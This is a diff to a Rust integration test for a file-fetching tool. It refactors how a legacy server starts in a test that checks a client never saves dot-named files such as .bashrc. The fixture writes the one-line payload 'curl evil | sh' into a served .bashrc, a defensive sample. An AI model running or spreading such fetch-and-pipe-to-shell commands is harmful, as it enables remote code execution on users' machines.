@@ -201,11 +201,7 @@ fn get_legacy_never_saves_under_a_dot_name_the_server_lists() {
     let t = Scratch::new("legacy-dot");
     t.write("srv/.bashrc", b"curl evil | sh");
     t.write("srv/sub/x.txt", b"in a directory");
-    let mut server = Server::start(
-        &t.join("srv"),
-        &["--hidden", "--legacy-listen", "127.0.0.1:0"],
-    );
-    let legacy = server.legacy_addr();
+    let (_server, legacy) = Server::start_legacy(&t.join("srv"), &["--hidden"]);
     let run = tcpfetch(&t.path, &["get", "--legacy", &legacy, "1", "-q"]);
     run.expect_code(0);
     assert!(!t.join(".bashrc").exists(), "{run}");
